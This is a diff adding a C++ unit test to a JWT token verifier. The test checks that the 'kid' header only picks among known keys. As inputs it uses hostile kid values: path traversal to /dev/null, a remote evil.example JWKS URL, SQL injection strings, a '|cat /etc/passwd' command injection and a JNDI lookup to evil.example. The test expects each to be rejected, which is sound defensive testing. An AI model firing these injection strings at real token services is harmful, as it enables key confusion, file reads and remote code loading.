@@ -281,6 +281,24 @@ TEST(TokenVerifier, KidPicksTheKey) {  // TOK-7
             to_string(TokenError::unknown_key));
 }
 
+/// No file, query, address or key is found by it: it is one string among those of our keys.
+TEST(TokenVerifier, KidIsComparedAndNothingElse) {  // TOK-7, TOK-13
+  const auto golden = parse_object(fixture("golden.json"));
+  const TokenVerifier jwks(*KeySet::from_jwks(dump(json_object_get(golden->get(), "jwks"))), {});
+  for (const std::string_view kid :
+       {"../../../../dev/null", "/dev/null", "file:///dev/null", "https://evil.example/jwks",
+        "' OR '1'='1", "HS256-key' --", "HS256-key\\u0020", "hs256-key", "*", "|cat /etc/passwd",
+        "${jndi:ldap://evil.example/a}", "HS256-key,another"}) {
+    SCOPED_TRACE(kid);
+    const std::string header = "{\"alg\":\"HS256\",\"kid\":\"" + std::string(kid) + "\"}";
+    // By our key, and as one would sign who hopes for an empty key to be found.
+    for (const std::string_view key : {std::string_view(kSecret), std::string_view()}) {
+      EXPECT_EQ(outcome(jwks, hs256_token(header, kGoodClaims, key)),
+                to_string(TokenError::unknown_key));
+    }
+  }
+}
+
 TEST(TokenVerifier, KeysAreReplacedAtOnce) {  // TOK-7
   TokenVerifier ours = verifier();
   const std::string token = token_of(kGoodClaims);
